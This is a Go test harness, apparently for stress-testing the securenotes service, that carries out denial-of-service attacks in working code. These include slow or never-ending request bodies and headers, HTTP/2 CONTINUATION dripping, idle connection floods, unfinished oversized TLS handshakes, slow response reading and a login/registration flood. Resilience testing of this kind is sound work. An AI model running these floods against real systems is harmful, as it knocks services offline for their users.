package exhaustion

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"sync"
	"time"

	h2 "golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/securenotes/securenotes/hack/notesclient"
)

const (
	// largestBody is about the maximum body of a note, and smallBody that of credentials, in bytes.
	largestBody, smallBody = 1_390_000, 8_000
	// headerRoom is less than the maximum size of a header, in bytes.
	headerRoom = 7 << 10
)

// slowBodies announces bodies, and never sends the last byte. They have many sizes, so that small
// ones fill the memory that large ones leave.
func slowBodies(ctx context.Context, c *crowd) {
	type upload struct {
		path, token, field string
		length             int
		// trickled bodies are sent byte by byte.
		trickled bool
	}
	var uploads []upload
	for i, user := range c.accounts {
		length := largestBody >> i
		uploads = append(uploads,
			upload{"/api/notes", user.Token, "content", largestBody, false}, upload{"/api/notes", user.Token, "content", length, false},
			upload{"/api/notes", c.target.Accounts.EndedToken, "content", largestBody, false},
			upload{"/api/auth/register", "", "username", smallBody, false}, upload{"/api/auth/login", "", "username", smallBody, true})
	}
	protocols := []string{http1, http2}
	c.each(ctx, 400, func(ctx context.Context, i int) error {
		protocol, u := protocols[i%2], uploads[i/2%len(uploads)]
		client := c.options(i/2, protocol).HTTPClient()
		defer client.CloseIdleConnections()
		// The body ends when the answer arrives; otherwise the transport would wait for its last
		// byte.
		unanswered, answered := context.WithCancel(ctx)
		defer answered()
		body := &heldBody{ctx: unanswered, start: `{"` + u.field + `":"`, left: u.length - 1, trickled: u.trickled}
		request, err := http.NewRequestWithContext(unanswered, http.MethodPost, "https://"+c.target.Address+u.path, body)
		if err != nil {
			return err
		}
		request.ContentLength = int64(u.length)
		request.Header.Set("Content-Type", "application/json")
		if u.token != "" {
			request.Header.Set("Authorization", "Bearer "+u.token)
		}
		response, err := client.Do(request)
		if err != nil {
			return err
		}
		_ = response.Body.Close()
		return fmt.Errorf("status %d", response.StatusCode)
	})
}

// heldBody is a JSON object whose end is never sent.
type heldBody struct {
	ctx context.Context
	// start is the part that is still to be sent, and left the number of bytes that follow, start
	// included.
	start    string
	left     int
	trickled bool
}

func (b *heldBody) Read(p []byte) (int, error) {
	switch {
	case b.left == 0:
		<-b.ctx.Done()
		return 0, b.ctx.Err()
	case b.start != "":
		n := copy(p, b.start)
		b.start = b.start[n:]
		b.left -= n
		return n, nil
	case b.trickled:
		if !pause(b.ctx, 500*time.Millisecond) {
			return 0, b.ctx.Err()
		}
		p = p[:1]
	}
	n := min(len(p), b.left)
	for i := range p[:n] {
		p[i] = 'x'
	}
	b.left -= n
	return n, nil
}

// slowHeaders sends headers with many small fields, which never end, or whose request never ends.
func slowHeaders(ctx context.Context, c *crowd) {
	clients := []func(context.Context, int) error{c.slowHeader1, c.slowHeader2, c.manyHeaders2}
	c.each(ctx, 500*len(clients), func(ctx context.Context, i int) error { return clients[i%len(clients)](ctx, i) })
}

func (c *crowd) slowHeader1(ctx context.Context, i int) error {
	conn, err := c.dialTLS(ctx, i, http1, 0)
	if err != nil {
		return err
	}
	defer conn.Close()
	header := "GET /api/notes HTTP/1.1\r\nHost: localhost\r\n"
	for n := 0; len(header) < headerRoom; n++ {
		header += fmt.Sprintf("a%d:b\r\n", n)
	}
	if _, err := io.WriteString(conn, header); err != nil {
		return err
	}
	return drip(ctx, conn, 500*time.Millisecond, func() error {
		_, err := io.WriteString(conn, "c:d\r\n")
		return err
	})
}

func (c *crowd) slowHeader2(ctx context.Context, i int) error {
	s, err := c.dialHTTP2(ctx, i)
	if err != nil {
		return err
	}
	defer s.Close()
	stream, err := s.open(false, true, append(request("GET", "/api/notes", ""), smallFields(headerRoom/2)...)...)
	if err != nil {
		return err
	}
	return drip(ctx, s, 500*time.Millisecond, func() error {
		return s.WriteContinuation(stream, false, block(smallFields(64)))
	})
}

// manyHeaders2 keeps requests open that have a header of the maximum size, and a body that never
// ends.
func (c *crowd) manyHeaders2(ctx context.Context, i int) error {
	s, err := c.dialHTTP2(ctx, i)
	if err != nil {
		return err
	}
	defer s.Close()
	fields := append(request("POST", "/api/notes", c.account(i).Token), smallFields(headerRoom)...)
	return s.keepOpen(ctx, 50, 5, func() error {
		stream, err := s.open(true, false, fields...)
		if err != nil {
			return err
		}
		return s.WriteData(stream, false, []byte("{"))
	})
}

// smallFields returns as many small fields as fit into a header of the given size. A field counts
// 32 bytes more than its text (RFC 9113, section 6.5.2).
func smallFields(bytes int) (fields []hpack.HeaderField) {
	for n := 0; bytes > 0; n++ {
		f := hpack.HeaderField{Name: fmt.Sprintf("a%d", n), Value: "b"}
		fields = append(fields, f)
		bytes -= int(f.Size())
	}
	return fields
}

// idleConnections sends one request on each connection, and then nothing.
func idleConnections(ctx context.Context, c *crowd) {
	c.each(ctx, 6000, func(ctx context.Context, i int) error {
		if i%2 == 0 {
			conn, err := c.dialTLS(ctx, i, http1, 0)
			if err != nil {
				return err
			}
			defer conn.Close()
			if _, err := io.WriteString(conn, "GET /nowhere HTTP/1.1\r\nHost: localhost\r\n\r\n"); err != nil {
				return err
			}
			return untilClosed(conn)
		}
		s, err := c.dialHTTP2(ctx, i, h2.Setting{ID: h2.SettingMaxConcurrentStreams, Val: 1})
		if err != nil {
			return err
		}
		defer s.Close()
		if _, err := s.open(true, true, request("GET", "/nowhere", "")...); err != nil {
			return err
		}
		return untilClosed(s)
	})
}

// unfinishedHandshakes sends a ClientHello of the maximum size, except its end.
func unfinishedHandshakes(ctx context.Context, c *crowd) {
	const record, message = 16 << 10, 65_500
	hello := append([]byte{1, 0, message >> 8, message & 0xff}, make([]byte, message-1)...)
	var records []byte
	for len(hello) > 0 {
		n := min(len(hello), record)
		records = append(records, 22, 3, 1, byte(n>>8), byte(n))
		records = append(records, hello[:n]...)
		hello = hello[n:]
	}
	c.each(ctx, 2500, func(ctx context.Context, i int) error {
		conn, err := c.dial(ctx, i, c.target.Address, 0)
		if err != nil {
			return err
		}
		defer conn.Close()
		if _, err := conn.Write(records); err != nil {
			return err
		}
		return untilClosed(conn)
	})
}

// readSlowly sends a request and reads a few bytes of the answer each second.
func readSlowly(clients int, wanted func(a Accounts, i int) (path, token string)) func(context.Context, *crowd) {
	return func(ctx context.Context, c *crowd) {
		c.each(ctx, clients, func(ctx context.Context, i int) error {
			conn, err := c.dialTLS(ctx, i, http1, 4<<10)
			if err != nil {
				return err
			}
			defer conn.Close()
			path, token := wanted(c.target.Accounts, i)
			if _, err := fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\n\r\n", path, token); err != nil {
				return err
			}
			piece := make([]byte, 64)
			for pause(ctx, time.Second) {
				if _, err := conn.Read(piece); err != nil {
					return err
				}
			}
			return ctx.Err()
		})
	}
}

// passwords registers and logs in from one address with correct passwords, as fast as the service
// allows.
func passwords(ctx context.Context, c *crowd) {
	client := notesclient.New("https://"+c.target.Address, c.options(0, http1))
	defer client.Close()
	var done sync.WaitGroup
	for i := range 64 {
		done.Go(func() {
			// The next one follows, whether this one was refused or not.
			for n := 0; pause(ctx, 10*time.Millisecond); n++ {
				if i%2 == 0 {
					_ = client.Register(ctx, fmt.Sprintf("flood-%d-%d-%d", time.Now().UnixNano(), i, n), c.account(i).Password)
				} else {
					_, _ = client.Login(ctx, c.account(i).Name, c.account(i).Password)
				}
			}
		})
	}
	done.Wait()
}

// probeConnections opens connections to the port for probes: idle ones, ones with incomplete
// requests, and ones with complete requests.
func probeConnections(ctx context.Context, c *crowd) {
	c.each(ctx, 4000, func(ctx context.Context, i int) error {
		conn, err := c.dial(ctx, i, c.target.Probes, 0)
		if err != nil {
			return err
		}
		defer conn.Close()
		const whole = "GET /readyz HTTP/1.1\r\nHost: localhost\r\n\r\n"
		text := [...]string{"", whole[:len(whole)-2], whole, whole}[i%4]
		if _, err := io.WriteString(conn, text); err != nil {
			return err
		}
		if i%4 < 3 {
			return untilClosed(conn)
		}
		return drip(ctx, conn, 5*time.Second, func() error {
			_, err := io.WriteString(conn, whole)
			return err
		})
	})
}
